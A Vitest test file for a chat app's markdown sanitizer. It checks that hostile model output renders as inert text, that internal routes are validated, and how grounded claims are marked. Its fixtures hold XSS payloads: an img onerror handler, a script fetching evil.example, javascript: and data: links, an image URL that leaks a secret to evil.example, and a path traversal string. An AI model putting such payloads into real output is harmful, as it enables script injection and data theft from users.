// The inert markdown pipeline: hostile model output must produce no element that can run script, load a
// resource or navigate away, and claims must be marked where they are written.
import { describe, expect, it } from "vitest";
import { countOccurrences, internalRoute, markClaims, splitBlocks, toSafeNodes, type SafeNode } from "../chat/markdown";

/** Every tag, route and text in a tree, flattened, for assertions. */
function flatten(nodes: SafeNode[]): { tags: string[]; routes: string[]; text: string } {
  const tags: string[] = [];
  const routes: string[] = [];
  let text = "";
  const walk = (list: SafeNode[]) => {
    for (const n of list) {
      if (n.kind === "text") text += n.text;
      else if (n.kind === "el") { tags.push(n.tag); walk(n.children); }
      else if (n.kind === "link") { routes.push(n.route); walk(n.children); }
      else { text += n.claim.text; if (n.claim.route) routes.push(n.claim.route); }
    }
  };
  walk(nodes);
  return { tags, routes, text };
}

describe("hostile output stays text", () => {
  it.each([
    ["an image with onerror", '<img src=x onerror="alert(1)">', '<img src=x onerror="alert(1)">'],
    ["a script block", "<script>fetch('https://evil.example')</script>", "<script>fetch('https://evil.example')</script>"],
    ["a javascript: link", "[click](javascript:alert(1))", "click"],
    ["a remote markdown image", "![pixel](https://evil.example/p.png?d=secret)", "[image: pixel]"],
    ["a data: link", "[x](data:text/html;base64,PHNjcmlwdD4=)", "x"],
    ["an external link", "[docs](https://example.com)", "docs"],
    ["an inline tag in a sentence", "HRV is <b onclick=x>fine</b> today", "HRV is <b onclick=x>fine</b> today"],
  ])("%s", (_name, input, shownText) => {
    const f = flatten(toSafeNodes(input));
    expect(f.routes).toEqual([]);
    expect(f.tags.every((t) => ["p", "strong", "em", "code", "pre"].includes(t))).toBe(true);
    expect(f.text).toContain(shownText);
  });
});

describe("internal routes", () => {
  it.each([
    ["#/history/12", "history/12"],
    ["#/morning/2026-11-30", "morning/2026-11-30"],
    ["#/history/day/2026-11-30", "history/day/2026-11-30"],
    ["#/history/day/2026-11-30/x", null],
    ["#/history/day/soon", null],
    ["#/morning", "morning"],
    ["#/history/12?x=<script>", null],
    ["https://example.com/#/history/12", null],
    ["javascript:location='#/history/1'", null],
    ["#/history/../../etc", null],
  ])("%s → %s", (href, want) => expect(internalRoute(href)).toBe(want));

  it("keeps an internal link as a link", () => {
    expect(flatten(toSafeNodes("See [the session](#/history/7).")).routes).toEqual(["history/7"]);
  });
});

describe("structure", () => {
  it("builds lists, tables, code and headings from tokens", () => {
    const f = flatten(toSafeNodes("# Week\n\n- one\n- **two**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\n<i>x</i>\n```"));
    expect(f.tags).toEqual(["h3", "ul", "li", "li", "strong", "table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td", "pre", "code"]);
    expect(f.text).toContain("<i>x</i>");
  });
  it("splits streamed text into blocks so only the last one changes", () => {
    expect(splitBlocks("First.\n\nSecond is be")).toEqual(["First.", "Second is be"]);
  });
});

describe("claims", () => {
  const grounded = { text: "62 ms", grounded: true, route: "morning/2026-11-30", receipt: "r-1" };
  const made_up = { text: "80 ms", grounded: false, route: null, receipt: null };
  it("marks each claim where it is written, grounded ones with their route", () => {
    const nodes = toSafeNodes("Your RMSSD was **62 ms**, not 80 ms.", [grounded, made_up]);
    const claims: SafeNode[] = [];
    const walk = (l: SafeNode[]) => l.forEach((n) => (n.kind === "claim" ? claims.push(n) : "children" in n ? walk(n.children) : null));
    walk(nodes);
    expect(claims.map((c) => c.kind === "claim" && [c.claim.text, c.claim.grounded])).toEqual([["62 ms", true], ["80 ms", false]]);
  });
  it("never marks inside code", () => {
    const nodes = markClaims(toSafeNodes("`62 ms`"), [grounded]);
    expect(flatten(nodes).routes).toEqual([]);
  });
  /** The text around each claim mark, as "[45]" in its place. */
  const marked = (nodes: SafeNode[]): string => {
    let out = "";
    const walk = (l: SafeNode[]) => l.forEach((n) => {
      if (n.kind === "text") out += n.text;
      else if (n.kind === "claim") out += `[${n.claim.text}]`;
      else walk(n.children);
    });
    walk(nodes);
    return out;
  };
  const bare = (occurrence: number) => ({ text: "45", grounded: true, route: "history/day/2026-11-30", receipt: "r-1", occurrence });
  // The grounding counts whole numbers only: "45" inside "145", "6:45", "2045" or "3.45" is no occurrence.
  it.each([
    ["day 145, RMSSD was 45", 0, "day 145, RMSSD was [45]"],
    ["At 6:45 and in 2045 and 3.45, RMSSD 45.", 0, "At 6:45 and in 2045 and 3.45, RMSSD [45]."],
    ["After 45 minutes your RMSSD was 45", 1, "After 45 minutes your RMSSD was [45]"],
    ["RMSSD **45**, then 45.2 ms and 45", 1, "RMSSD 45, then 45.2 ms and [45]"],
    ["`45` in code, then RMSSD 45", 1, "45 in code, then RMSSD [45]"],
  ])("marks a claim's own occurrence: %s", (md, occurrence, expected) => {
    expect(marked(toSafeNodes(md, [bare(occurrence)]))).toBe(expected);
  });
  it("marks a claim once across blocks, in the block of its occurrence", () => {
    const answer = "Slept 45 minutes less.\n\nYour RMSSD was 45.\n\nTry 45 minutes of walking.";
    const blocks = splitBlocks(answer);
    let before = new Map<string, number>([["45", 0]]);
    const out: string[] = [];
    for (const b of blocks) {
      out.push(marked(toSafeNodes(b, [bare(1)], before)));
      before = new Map([["45", (before.get("45") ?? 0) + (countOccurrences(b, ["45"]).get("45") ?? 0)]]);
    }
    expect(out).toEqual(["Slept 45 minutes less.", "Your RMSSD was [45].", "Try 45 minutes of walking."]);
  });
});
